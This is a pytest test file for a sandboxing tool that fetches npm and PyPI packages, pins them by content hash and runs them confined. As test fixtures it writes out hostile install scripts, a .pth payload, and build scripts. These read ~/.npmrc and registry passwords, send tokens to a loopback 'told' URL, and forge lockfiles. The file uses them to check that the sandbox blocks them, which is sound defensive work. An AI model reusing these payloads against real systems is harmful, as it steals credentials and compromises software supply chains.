"""What a launcher would fetch is fetched in a step of its own, pinned by its content, and runs from a tree it cannot
write. The registry is ours and on loopback; npm, uv and the servers are real.
"""

from __future__ import annotations

import json
import os
import shutil
import sys
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest
from tests.gateway.serving import Serve
from tests.gateway.wrapping import DOORWARD, World, Wrapped
from tests.registry import NODE_SERVER, PYTHON_SERVER, Registry, programs

from doorward.confine.fetching import Own
from doorward.confine.profile import Mechanism
from doorward.errors import FetchError
from doorward.gateway.fetching import npm
from doorward.gateway.fetching.asked import Asked, Spec, asked
from doorward.gateway.fetching.fetch import Wish, have, present
from doorward.gateway.fetching.programs import trusted_path, with_interpreter
from doorward.gateway.fetching.settings import settings_of
from doorward.policy.amounts import Caps

NAME = "made-server"
CLOSED = ("EACCES", "ENOENT", "EROFS")
MECHANISMS: tuple[Mechanism, ...] = ("namespaces", "landlock")


@pytest.fixture(scope="session")
def launchers(tmp_path_factory: pytest.TempPathFactory) -> str:
    return programs(tmp_path_factory.mktemp("launchers") / "installed")


@pytest.fixture
def registry(world: World, launchers: str) -> Iterator[Registry]:
    """A registry that the operator's settings name, and the launchers on PATH."""
    with Registry() as registry:
        world.env |= registry.env | {"PATH": launchers}
        yield registry


@pytest.fixture(params=["npx", "uvx"])
def launcher(request: pytest.FixtureRequest) -> str:
    return str(request.param)


def command(launcher: str, *arguments: str, version: str = "") -> tuple[str, ...]:
    return (launcher, *(("-y",) if launcher == "npx" else ()), NAME + version, *arguments)


def publish(registry: Registry, launcher: str, version: str, more: str = "") -> None:
    if launcher == "npx":
        registry.npm(NAME, version, f"{NODE_SERVER}\n{more and '// ' + more}")
    else:
        registry.wheel(NAME, version, f"{PYTHON_SERVER}\n{more and '# ' + more}")


def start(world: World, argv: tuple[str, ...], *options: str) -> Wrapped:
    wrapped = world.wrap(argv, after=("--name", "made", *options))
    wrapped.initialize()
    return wrapped


def spelt(path: str) -> str:
    return path.encode().hex()


def pin(world: World) -> dict[str, Any]:
    pins: dict[str, Any] = tomllib.loads((world.state / "doorward.lock").read_text())["pins"]
    return dict(pins["made"])


def test_what_is_fetched_once_is_pinned_by_its_content_and_runs_without_the_registry(
    world: World, registry: Registry, launcher: str
) -> None:
    publish(registry, launcher, "1.0.0")
    first = start(world, command(launcher, "one", "--two"))
    assert first.text("version") == "1.0.0"
    assert first.text("arguments") == "one --two"
    assert first.end() == 0
    known = pin(world)
    assert known["argv"] == list(command(launcher, "one", "--two"))
    assert known["package"] == f"{'npm' if launcher == 'npx' else 'pypi'}:{NAME} 1.0.0"
    assert known["package_integrity"].startswith("sha512-" if launcher == "npx" else "sha256:")
    assert first.stderr.count(f"fetched {known['package']} ({known['package_integrity']})") == 1

    publish(registry, launcher, "2.0.0")
    registry.stop()
    asked_for = len(registry.asked)
    second = start(world, command(launcher, "one", "--two"))
    assert second.text("version") == "1.0.0"
    assert second.end() == 0
    assert "fetched" not in second.stderr
    assert len(registry.asked) == asked_for
    assert pin(world) == known


def test_the_server_cannot_write_what_was_fetched(world: World, registry: Registry, launcher: str) -> None:
    publish(registry, launcher, "1.0.0")
    server = start(world, command(launcher, str(world.folder)))
    assert server.text("write", spelt=spelt(f"{server.text('where')}/server.js")) in CLOSED
    assert server.text("write", spelt=spelt(f"{server.text('where')}/new")) in CLOSED
    assert server.text("write", spelt=spelt(f"{world.folder}/new")) == "written"
    assert server.end() == 0


@pytest.mark.parametrize("scripts", [False, True])
def test_install_scripts_run_only_where_the_operator_says_so_and_then_inside_walls(
    world: World, registry: Registry, scripts: bool
) -> None:
    outside = world.top / "outside"
    with Registry() as neighbour:
        asking = f"node -e \"require('http').get('{neighbour.url}/').on('error', () => 0)\""
        script = f"echo ran > ran.txt; echo ran > '{outside}'; cat '{world.home}/.npmrc' >> ran.txt; {asking}; true"
        registry.npm(NAME, "1.0.0", scripts={"postinstall": script})
        (world.home / ".npmrc").write_text("; the operator's own\n")
        server = start(world, command("npx"), *(("--unsafe-install-scripts",) if scripts else ()))
        assert neighbour.asked == []
    assert server.text("read", spelt=spelt(f"{server.text('where')}/ran.txt")) == ("ran\n" if scripts else "ENOENT")
    assert server.end() == 0
    assert not outside.exists()
    assert (f"install scripts were not run, of: {NAME}" in server.stderr) is not scripts
    assert ("unsafe: install scripts of what is fetched are run" in server.stderr) is scripts


def test_what_was_built_by_install_scripts_is_not_used_without_the_flag(world: World, registry: Registry) -> None:
    registry.npm(NAME, "1.0.0", scripts={"postinstall": "echo ran > ran.txt"})
    assert start(world, command("npx"), "--unsafe-install-scripts").end() == 0
    known = pin(world)
    server = start(world, command("npx"))
    assert server.text("read", spelt=spelt(f"{server.text('where')}/ran.txt")) == "ENOENT"
    assert server.end() == 0
    assert pin(world) == known


@pytest.mark.parametrize("what", ["forged", "a link", "a pipe"])
def test_an_install_script_does_not_say_what_was_fetched(world: World, registry: Registry, what: str) -> None:
    lock = "../../package-lock.json"
    script = {
        "forged": f"sed -i s/1.0.0/0.9.0/ {lock}",
        "a link": f"sed s/1.0.0/0.9.0/ {lock} > other; ln -sf node_modules/{NAME}/other {lock}",
        "a pipe": f"rm {lock} && mkfifo {lock}",
    }[what]
    registry.npm(NAME, "1.0.0", scripts={"postinstall": script})
    server = start(world, command("npx"), "--unsafe-install-scripts")
    assert server.end() == 0
    assert pin(world)["package"] == f"npm:{NAME} 1.0.0"


@pytest.mark.parametrize(
    ("settings", "needed"),
    [("git=./told\n", "another"), ("@made:registry={told}/${{REGISTRY_TOKEN}}/\n", "@made/another"), ("", "another")],
)
def test_a_dependency_from_git_runs_nothing_and_learns_nothing(
    world: World, registry: Registry, tmp_path: Path, settings: str, needed: str
) -> None:
    """npm prepares what comes from git by an installation of its own in there, under the settings that lie there."""
    world.env["REGISTRY_TOKEN"] = "operators-own-token"
    (world.home / ".npmrc").write_text(
        f"registry={registry.url}/\n{registry.url.removeprefix('http:')}/:_authToken=${{REGISTRY_TOKEN}}\n"
    )
    del world.env["npm_config_registry"]
    told = f"{registry.url}/told"
    needs = {needed: registry.git("another", {"package.json": "{}"}, tmp_path) if "git" in settings else "1.0.0"}
    described = {"name": "from-git", "version": "1.0.0", "scripts": {"prepare": "./told"}, "devDependencies": needs}
    content = {
        "package.json": json.dumps(described),
        ".npmrc": settings.format(told=told),
        "told": f"#!/bin/sh\n/usr/bin/git ls-remote {told}/$REGISTRY_TOKEN\n",
    }
    registry.npm("another", "1.0.0")
    registry.npm(NAME, "1.0.0", dependencies={"from-git": registry.git("from-git", content, tmp_path)})
    refused = world.wrap(command("npx"))
    assert refused.wait() == 2
    assert f"{NAME} could not be fetched" in refused.stderr
    assert f"/{NAME}" in registry.asked
    assert [path for path in registry.asked if "told" in path or ".git" in path] == []


def test_where_npm_fetches_repositories_as_archives_nothing_is_fetched(world: World, registry: Registry) -> None:
    """As those before 11.10 still would, though they find no git."""
    archive = "codeload.github.com"
    registry.npm(NAME, "1.0.0", dependencies={"archive": f"https://{archive}/made/archive/tar.gz/main"})
    refused = world.wrap(command("npx"))
    assert refused.wait() == 2
    assert f"npm may not connect to {archive}:443: nothing is fetched from there" in refused.stderr


@pytest.mark.parametrize("programs", [["bin.js"], 7, {NAME: ["bin.js"]}, "a\0b", "/bin/sh", "../../../../bin/sh"])
def test_a_package_that_says_nonsense_about_its_program_is_refused(tmp_path: Path, programs: object) -> None:
    package = tmp_path / "node_modules" / NAME
    package.mkdir(parents=True)
    (package / "package.json").write_text(json.dumps({"name": NAME, "bin": programs}))
    one = {"version": "1.0.0", "integrity": "sha512-AAAA"}
    (tmp_path / "package-lock.json").write_text(json.dumps({"packages": {f"node_modules/{NAME}": one}}))
    what = asked(("npx", NAME))
    assert what is not None
    with pytest.raises(FetchError):
        npm.found(what, str(tmp_path))


def test_under_a_profile_that_asks_no_install_script_runs_before_somebody_agreed(
    world: World, registry: Registry
) -> None:
    registry.npm(NAME, "1.0.0", scripts={"postinstall": "echo ran > ran.txt"})
    policy = world.top / "doorward.toml"
    policy.write_text('profile = "strict"\n')
    policy.chmod(0o600)
    refused = world.wrap(command("npx"), before=("-c", str(policy)), after=("--unsafe-install-scripts",))
    assert refused.wait() == 2
    assert "doorward pin accept --unsafe-install-scripts -- npx -y made-server" in refused.stderr
    assert registry.asked == []


@pytest.mark.parametrize("scripts", [False, True])
def test_a_source_distribution_is_built_only_where_the_operator_says_so_and_then_inside_walls(
    world: World, registry: Registry, scripts: bool
) -> None:
    marker = world.top / "marker"
    registry.source(NAME, "1.0.0", marker)
    wrapped = world.wrap(command("uvx"), after=("--unsafe-install-scripts",) if scripts else ())
    if scripts:
        wrapped.initialize()
        assert wrapped.text("version") == "1.0.0"
        assert wrapped.end() == 0
    else:
        assert wrapped.wait() == 2
        assert "--unsafe-install-scripts" in wrapped.stderr
    assert not marker.exists()


@pytest.mark.parametrize("file", ["made.pth", "sitecustomize.py"])
def test_what_python_runs_when_it_starts_does_not_run_while_it_is_fetched(
    world: World, registry: Registry, file: str
) -> None:
    settings = world.home / ".config" / "uv" / "uv.toml"
    settings.parent.mkdir(parents=True)
    settings.write_text("[pip]\ncompile-bytecode = true\n")
    world.env |= {"UV_INDEX_OWN_PASSWORD": "operators-own", "UV_COMPILE_BYTECODE": "1"}
    told = f"{registry.url}/told/"
    asking = "import os, urllib.request as r; os.environ.get('UV_INDEX_OWN_PASSWORD')"
    text = f"{asking} and r.urlopen('{told}' + os.environ['UV_INDEX_OWN_PASSWORD'])\n"
    registry.wheel(NAME, "1.0.0", more={file: text})
    server = start(world, command("uvx"))
    assert server.text("version") == "1.0.0"
    where = server.text("where")
    assert server.text("read", spelt=spelt(f"{where}/{file}")) == text
    [compiled] = Path(where, "__pycache__").glob("made_server.*.pyc")
    assert compiled.stat().st_size
    assert server.end() == 0
    assert [path for path in registry.asked if "told" in path] == []


def test_a_package_does_not_choose_the_library_of_the_python_that_compiles_it(world: World, registry: Registry) -> None:
    """Its data lie where its environment says which library an interpreter has."""
    library = f"lib/python{sys.version_info.major}.{sys.version_info.minor}"
    data = "made_server-1.0.0.data/data"
    chosen = {
        f"{data}/pyvenv.cfg": "home = environment/chosen/bin\n",
        f"{data}/chosen/{library}/os.py": "",
        f"{data}/chosen/{library}/lib-dynload/here": "",
        f"{data}/chosen/{library}/compileall.py": "open('environment/ran', 'w').close()\n",
    }
    registry.wheel(NAME, "1.0.0", more=chosen)
    server = start(world, command("uvx"))
    assert server.text("version") == "1.0.0"
    assert server.end() == 0
    [tree] = (world.state / "fetched").glob("*/*/environment")
    assert (tree / "chosen" / library / "compileall.py").exists()
    assert not (tree / "ran").exists()
    assert list(tree.glob(f"{library}/site-packages/__pycache__/made_server.*.pyc"))


BUILD = """
import json, os, pathlib, urllib.error, urllib.request
paths, urls = json.loads({plan!r})
def tried(attempt):
    try:
        return bool(attempt() or True)
    except OSError:
        return False
def visited(url):
    try:
        return urllib.request.urlopen(url, timeout=20).status
    except urllib.error.HTTPError as refused:
        return refused.code
    except OSError:
        return 0
direct = urllib.request.build_opener(urllib.request.ProxyHandler({{}}))
found = {{
    "read": [path for path in paths if tried(lambda: open(path).read())],
    "written": [path for path in paths if tried(lambda: open(path + ".new", "w"))],
    "visited": [visited(url) for url in urls],
    "direct": [tried(lambda: direct.open(url, timeout=20)) for url in urls],
    "environment": sorted(name for name in os.environ if "TOKEN" in name or "PASSWORD" in name),
}}
[tree] = [place for place in pathlib.Path.cwd().parents if (place / "requirements.in").exists()]
(tree / "found.json").write_text(json.dumps(found))
"""


@pytest.mark.parametrize("mechanism", MECHANISMS)
def test_what_is_built_sees_the_registry_and_its_settings_and_nothing_else(
    world: World, registry: Registry, mechanism: str
) -> None:
    private, settings = world.home / "private", world.home / ".config" / "uv" / "uv.toml"
    for path in (private, settings, world.folder / "file", world.state / "file"):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("")
    world.env |= {"SERVICE_TOKEN": "a", "UV_INDEX_OWN_PASSWORD": "b"}
    with Registry() as neighbour:
        urls = (f"{registry.url}/", f"{neighbour.url}/")
        paths = [str(path) for path in (private, world.folder / "file", world.state / "file", settings)]
        registry.source(NAME, "1.0.0", world.top / "marker", build=BUILD.format(plan=json.dumps([paths, urls])))
        options = ("--unsafe-install-scripts", "--sandbox", mechanism)
        server = start(world, command("uvx", str(world.folder)), *options)
        assert server.text("version") == "1.0.0"
        assert server.end() == 0
        assert neighbour.asked == []
    [found] = (world.state / "fetched").glob("*/*/found.json")
    assert json.loads(found.read_bytes()) == {
        "read": [str(settings)],  # with what they hold: the registry's credentials
        "written": [],
        "visited": [404, 403],
        "direct": [False, False],
        "environment": ["UV_INDEX_OWN_PASSWORD"],
    }


def test_other_content_under_the_same_version_is_refused(world: World, registry: Registry, launcher: str) -> None:
    publish(registry, launcher, "1.0.0")
    assert start(world, command(launcher)).end() == 0
    known = pin(world)
    publish(registry, launcher, "1.0.0", "other content")

    refreshed = world.doorward("pin", "accept", "--refresh", "made")
    assert refreshed.returncode == 2
    assert f"other content for {NAME} 1.0.0" in refreshed.stderr
    kept = start(world, command(launcher))
    assert kept.end() == 0

    shutil.rmtree(world.state / "fetched")
    refused = world.wrap(command(launcher), after=("--name", "made"))
    assert refused.wait() == 2
    assert f"package_integrity: pinned {known['package_integrity']}, found" in refused.stderr
    assert pin(world) == known


def test_a_newer_version_comes_only_when_it_is_asked_for(world: World, registry: Registry, launcher: str) -> None:
    publish(registry, launcher, "1.0.0")
    assert start(world, command(launcher)).end() == 0
    publish(registry, launcher, "2.0.0")
    done = world.doorward("pin", "accept", "--refresh", "made")
    assert done.returncode == 0, done.stderr
    assert f"{NAME} 1.0.0" in done.stdout
    assert f"{NAME} 2.0.0" in done.stdout
    server = start(world, command(launcher))
    assert server.text("version") == "2.0.0"
    assert server.end() == 0


def test_a_tree_that_was_lost_comes_back_at_the_version_that_is_pinned(
    world: World, registry: Registry, launcher: str
) -> None:
    publish(registry, launcher, "1.0.0")
    assert start(world, command(launcher)).end() == 0
    publish(registry, launcher, "2.0.0")
    shutil.rmtree(world.state / "fetched")
    server = start(world, command(launcher))
    assert server.text("version") == "1.0.0"
    assert server.end() == 0


def test_a_command_that_was_changed_reaches_no_registry(world: World, registry: Registry, launcher: str) -> None:
    publish(registry, launcher, "1.0.0")
    assert start(world, command(launcher)).end() == 0
    asked_for = len(registry.asked)
    refused = world.wrap(command(launcher, version="@2.0.0"), after=("--name", "made"))
    assert refused.wait() == 2
    assert "made is not what it was pinned as" in refused.stderr
    assert len(registry.asked) == asked_for


def test_the_operators_settings_reach_the_registry_and_not_the_server(world: World, registry: Registry) -> None:
    registry.token = "operators-own-token"
    publish(registry, "npx", "1.0.0")
    settings = world.home / ".npmrc"
    place = registry.url.removeprefix("http:")
    settings.write_text(f"registry={registry.url}/\n{place}/:_authToken=${{REGISTRY_TOKEN}}\n")
    del world.env["npm_config_registry"]
    world.env["REGISTRY_TOKEN"] = registry.token
    server = start(world, command("npx"))
    assert server.text("read", spelt=spelt(str(settings))) in CLOSED
    assert server.text("version") == "1.0.0"
    assert server.end() == 0


def test_a_registry_that_does_not_answer_is_said_and_nothing_stays(
    world: World, registry: Registry, launcher: str
) -> None:
    registry.stop()
    refused = world.wrap(command(launcher))
    assert refused.wait() == 2
    assert f"{NAME} could not be fetched" in refused.stderr
    assert not [place for place in (world.state / "fetched").glob("*/*") if place.is_dir()]
    assert not (world.state / "doorward.lock").exists()


def test_many_starts_at_once_fetch_once(world: World, registry: Registry, launcher: str) -> None:
    publish(registry, launcher, "1.0.0")
    wrapped = [world.wrap(command(launcher), after=("--name", "made")) for _ in range(3)]
    for one in wrapped:
        one.initialize()
        assert one.text("version") == "1.0.0"
    assert [one.end() for one in wrapped] == [0, 0, 0]
    assert sum("fetched" in one.stderr for one in wrapped) == 1


def planted(folder: Path, name: str, script: str) -> None:
    folder.mkdir(exist_ok=True)
    (folder / name).write_text(f"#!/bin/sh\n{script}\n")
    (folder / name).chmod(0o755)


def test_what_a_server_may_write_on_path_neither_fetches_nor_runs_anything(
    world: World, registry: Registry, launcher: str
) -> None:
    programs = world.folder / "bin"
    planted(programs, "node", "exit 3")
    planted(programs, "python3", f'exec "{os.path.realpath(sys.executable)}" "$@"')  # as good as any, for uv
    world.env["PATH"] = f"{programs}:{world.env['PATH']}"
    publish(registry, launcher, "1.0.0")
    for fetches in (True, False):
        server = start(world, command(launcher, str(world.folder)))
        assert server.text("version") == "1.0.0"
        assert server.end() == 0
        assert (f"{programs} on PATH is not used to fetch {NAME}: a server may write there" in server.stderr) is fetches
    [record] = (world.state / "fetched").glob("*/current.json")
    runs = json.loads(record.read_bytes())["found"]["program"]
    assert len(runs) == 2
    assert not [path for path in runs if Path(path).resolve().is_relative_to(world.folder)]


def test_a_package_manager_that_a_server_may_write_is_not_run(world: World, registry: Registry, launcher: str) -> None:
    programs = world.folder / "bin"
    for name in (launcher, "npm", "uv"):
        planted(programs, name, "exit 3")
    world.env["PATH"] = f"{programs}:{world.env['PATH']}"
    policy = world.top / "doorward.toml"
    policy.write_text(f'[servers.other]\nwrite = ["{world.folder}"]\n')
    policy.chmod(0o600)
    for before, arguments in (((), (str(world.folder),)), (("-c", str(policy)), ())):
        refused = world.wrap(command(launcher, *arguments), before=before)
        assert refused.wait() == 2
        assert "lies where a server may write, so it is not trusted to fetch anything" in refused.stderr
    assert registry.asked == []


def test_folders_that_a_server_decides_about_are_known_by_what_they_hold_and_where_they_lead(tmp_path: Path) -> None:
    written, own, linked, holds, led = (tmp_path / name for name in ("written", "own", "linked", "holds", "led"))
    for folder in (written / "bin", own, holds, tmp_path / "elsewhere"):
        folder.mkdir(parents=True)
    linked.symlink_to(written / "bin")
    (written / "way").symlink_to(tmp_path / "elsewhere")
    led.symlink_to(written / "way")
    (own / "node").symlink_to(tmp_path / "elsewhere")
    (holds / "node").symlink_to(written / "node")
    search = ":".join(map(str, ("relative", written / "bin", own, tmp_path / "none", linked, holds, led)))
    assert trusted_path(search, [str(written)]) == (str(own), tuple(map(str, (written / "bin", linked, holds, led))))
    assert trusted_path(str(own), [str(own / "node")]) == ("", (str(own),))
    assert trusted_path(search, []) == (":".join(map(str, (written / "bin", own, linked, holds, led))), ())


@pytest.mark.parametrize(
    ("line", "runs"),
    [
        ("#!/usr/bin/env node", ("node",)),
        ("#!/usr/bin/env -S node --no-warnings", ("node", "--no-warnings")),
        ("#!/usr/bin/env A=b node", None),
        ("#!/bin/sh", None),
        ("", None),
    ],
)
def test_what_runs_a_program_is_looked_for_once(tmp_path: Path, line: str, runs: tuple[str, ...] | None) -> None:
    planted(tmp_path / "bin", "node", "")
    program = tmp_path / "server.js"
    program.write_text(f"{line}\n")
    found = with_interpreter((str(program),), str(tmp_path / "bin"))
    assert found == (*((str(tmp_path / "bin" / "node"), *runs[1:]) if runs else ()), str(program))
    if runs:
        with pytest.raises(FetchError, match="is run by node: the command node is not on PATH"):
            with_interpreter((str(program),), str(tmp_path))


def test_pipx_is_fetched_for_by_uv_and_started_as_it_is_written_where_there_is_none(
    world: World, registry: Registry
) -> None:
    place = world.top / "pipx"
    planted(place, "pipx", 'echo "as it is written: $*" >&2; exit 3')
    path = world.env["PATH"]
    world.env["PATH"] = f"{place}:{path}"
    registry.wheel(NAME, "1.0.0")
    argv = ("pipx", "run", f"{NAME}==1.0.0", "one")
    server = start(world, argv)
    assert (server.text("version"), server.text("arguments")) == ("1.0.0", "one")
    assert server.end() == 0
    known = pin(world)
    assert (known["argv"], known["package"]) == (list(argv), f"pypi:{NAME} 1.0.0")
    assert known["package_integrity"].startswith("sha256:")

    world.env["PATH"] = f"{place}:/usr/bin:/bin"
    assert shutil.which("uv", path="/usr/bin:/bin") is None
    written = world.wrap(("pipx", "run", f"{NAME}==2.0.0", "one"), after=("--name", "written"))
    assert written.wait() == 3
    assert f"as it is written: run {NAME}==2.0.0 one\n" in written.stderr


def test_serve_fetches_before_it_listens(world: World, registry: Registry, launcher: str) -> None:
    publish(registry, launcher, "1.0.0")
    words = (*DOORWARD, "--state", str(world.state), "serve", "--listen", "127.0.0.1:0", "--name", "made", "--upstream")
    serve = Serve((*words, " ".join(command(launcher, "one"))), world.env, world.cwd, world.top / "serve.stderr")
    try:
        serve.wait_ready()
        told = serve.session("/mcp").call(1, "arguments").message
        assert told["result"]["content"][0]["text"] == "one"
    finally:
        serve.stop()
    assert serve.stderr.index("fetched ") < serve.stderr.index("serving made")
    assert pin(world)["package_integrity"]


def test_what_is_shown_before_and_after_it_is_fetched(world: World, registry: Registry, launcher: str) -> None:
    publish(registry, launcher, "1.0.0")
    before = world.doorward("sandbox", "show", "--json", "--", *command(launcher))
    assert "not fetched yet" in before.stderr
    assert registry.asked == []
    server = start(world, command(launcher))
    place = server.text("where")
    assert server.end() == 0
    after = json.loads(world.doorward("sandbox", "show", "--json", "--", *command(launcher)).stdout)
    assert any(place.startswith(path) for path in after["read"])
    assert not any(place.startswith(path) for path in (*after["write"], after["cache"]))


def test_a_newest_version_that_has_become_old_is_said(world: World, registry: Registry, launcher: str) -> None:
    publish(registry, launcher, "1.0.0")
    assert "days ago" not in (fresh := start(world, command(launcher))).stderr
    assert fresh.end() == 0
    [record] = (world.state / "fetched").glob("*/current.json")
    said = json.loads(record.read_bytes())
    record.write_text(json.dumps({**said, "at": said["at"] - 91 * 86400}))
    asked_for = len(registry.asked)
    old = start(world, command(launcher))
    assert old.end() == 0
    assert "was fetched more than 90 days ago" in old.stderr
    assert "--refresh" in old.stderr
    assert len(registry.asked) == asked_for


def test_what_the_operator_set_is_found_and_no_more(tmp_path: Path) -> None:
    wheels, cache, certificate = tmp_path / "wheels", tmp_path / "cache", tmp_path / "home" / "own.pem"
    for folder in (wheels, cache, certificate.parent):
        folder.mkdir()
    certificate.touch()
    settings = certificate.parent / ".npmrc"
    settings.write_text(
        f"registry = https://npm.example.org:8443/a/\n@own:registry=http://127.0.0.1/\ncafile={certificate}\n"
        f"cache={cache}\n//npm.example.org:8443/a/:_authToken=${{TOKEN}}\n"
    )
    environ = {
        "TOKEN": "x",
        "OTHER_TOKEN": "y",
        "npm_config_strict_ssl": "false",
        "npm_config_ignore_scripts": "false",
        "npm_config_globalconfig": str(tmp_path / "none"),
        "UV_FIND_LINKS": str(wheels),
        "UV_INDEX": f"own=https://user:secret@pypi.example.org/simple file://{wheels}",
        "UV_CACHE_DIR": str(cache),
    }
    npm = settings_of("npm", environ, str(certificate.parent))
    assert npm.read == (str(settings), str(certificate))
    assert npm.variables == ("TOKEN", "npm_config_globalconfig", "npm_config_strict_ssl")
    assert npm.targets == (("npm.example.org", 8443), ("127.0.0.1", 80))
    assert not npm.has_proxy
    uv = settings_of("pypi", environ, str(certificate.parent))
    assert uv.read == (str(wheels),)
    assert uv.variables == ("UV_FIND_LINKS", "UV_INDEX")
    assert uv.targets == (("pypi.example.org", 443),)
    proxied = settings_of("npm", {"HTTPS_PROXY": "http://proxy.example.org:3128"}, str(tmp_path))
    assert proxied.has_proxy
    assert proxied.targets == (("proxy.example.org", 3128),)


@pytest.mark.parametrize("mechanism", MECHANISMS)
def test_each_mechanism_lets_a_step_reach_the_registry_and_write_its_tree(
    world: World, registry: Registry, launcher: str, mechanism: Mechanism, monkeypatch: pytest.MonkeyPatch
) -> None:
    publish(registry, launcher, "1.0.0")
    for name, value in registry.env.items():
        monkeypatch.setenv(name, value)
    own = Own(home=str(world.home), state=str(world.state), config=str(world.top / "config"))
    what = asked(command(launcher))
    assert what is not None
    launcher_path = shutil.which(launcher, path=world.env["PATH"])
    assert launcher_path is not None
    monkeypatch.setenv("PATH", world.env["PATH"])
    caps = Caps(memory_bytes=1 << 30, file_bytes=1 << 30, descriptors=4096, processes=64, processor_percent=75)
    wish = Wish(what, launcher_path, own, caps, mechanism=mechanism)
    told: list[str] = []
    fetched = have(wish, lambda text, _hint="": told.append(text))
    assert fetched == present(wish)
    assert fetched.package.label.endswith(f"{NAME} 1.0.0")
    assert len(told) == 1, told


def test_what_a_launcher_asks_is_understood() -> None:
    def one(words: str) -> Asked:
        found = asked(tuple(words.split(" ")))
        assert found is not None
        return found

    files = Spec("@scope/files", "1.2.3")
    assert one("npx -y @scope/files@1.2.3 /a --b") == Asked("npm", (files,), "", ("/a", "--b"))
    assert one("/usr/bin/npx --yes @scope/files@1.2.3 -y") == Asked("npm", (files,), "", ("-y",))
    assert one("npm exec -y -- @scope/files@1.2.3 --b") == Asked("npm", (files,), "", ("--b",))
    assert one("npm x @scope/files@1.2.3 a -- --b") == Asked("npm", (files,), "", ("a", "--b"))
    assert one("npx -p @scope/files@1.2.3 --package=b files") == Asked("npm", (files, Spec("b")), "files", ())
    assert one("npx b@latest").specs == (Spec("b"),)
    assert one("npx b@^1").specs == (Spec("b", "^1"),)
    assert one("uvx a@1.2 /b -c") == Asked("pypi", (Spec("a", "==1.2"),), "a", ("/b", "-c"))
    assert one("uv tool run a[x,y]>=1,<2") == Asked("pypi", (Spec("a", ">=1,<2", "[x,y]"),), "a", ())
    assert one("uvx --from a==1 --with b>=1,<2,c --python 3.12 -q run --python x") == Asked(
        "pypi", (Spec("a", "==1"), Spec("b", ">=1,<2"), Spec("c")), "run", ("--python", "x"), "3.12"
    )
    assert one("pipx run -q a==1.2 /b -c") == Asked("pypi", (Spec("a", "==1.2"),), "a", ("/b", "-c"))
    assert one("pipx run --spec a[x]==1 --python 3.12 run --spec x") == Asked(
        "pypi", (Spec("a", "==1", "[x]"),), "run", ("--spec", "x"), "3.12"
    )
    assert asked(("pipx", "install", "x")) is None
    assert asked(("npm", "install", "x")) is None
    assert asked(("uv", "run", "server.py")) is None
    assert asked(("node", "npx")) is None


@pytest.mark.parametrize(
    "words",
    [
        "npx",
        "npx -y",
        "npx --registry=http://127.0.0.1/ a",
        "npx --registry http://127.0.0.1/ a",
        "npx -c 'echo'",
        "npx github:who/what",
        "npx who/what",
        "npx ./folder",
        "npx /folder",
        "npx ../folder",
        "npx file:folder",
        "npx folder.tgz@file:x",
        "npx a@npm:b",
        "npx a@git+ssh://git@host/a",
        "npx https://127.0.0.1/a.tgz",
        "npx --prefix /a b",
        "npx -p a --registry=x -- b",
        "npx -p a ../b",
        "npm exec a --b",
        "npm exec a --registry=x",
        "uvx",
        "uvx --index-url http://127.0.0.1/ a",
        "uvx --index x a",
        "uvx --from git+https://127.0.0.1/a b",
        "uvx --from ./a b",
        "uvx --from /a b",
        "uvx a@http://127.0.0.1/a",
        "uvx --with-editable . a",
        "uvx --with ./b a",
        "uvx python",
        "uvx --from a python3.12",
        "uvx --from a ../b",
        "uvx --python --index=x a",
        "uv tool run --env-file x a",
        "uvx --python 3.11 -p 3.12 a",
        "pipx run",
        "pipx run --pip-args=--index-url=http://127.0.0.1/ a",
        "pipx run --index-url http://127.0.0.1/ a",
        "pipx run --spec a@https://127.0.0.1/a b",
        "pipx run a@1.0",
        "pipx run ./a.py",
        "pipx run --path a",
    ],
)
def test_what_is_not_understood_exactly_is_refused(words: str) -> None:
    with pytest.raises(FetchError) as refused:
        asked(tuple(words.split(" ")))
    assert refused.value.hint


def test_values_are_told_apart() -> None:
    """A spec is exact only where one version can be meant: what is exact never grows old."""
    exact = [Spec("a", "1.2.3"), Spec("a", "=1.2.3"), Spec("a", "v1.2.3-beta.1"), Spec("a", "==1.2"), Spec("a", "===1")]
    loose = [Spec("a"), Spec("a", "^1.2.3"), Spec("a", "1"), Spec("a", "==1.*"), Spec("a", ">=1"), Spec("a", "next")]
    assert all(spec.is_exact() for spec in exact)
    assert not any(spec.is_exact() for spec in loose)
    assert msgspec.structs.replace(exact[0], versions="") == loose[0]
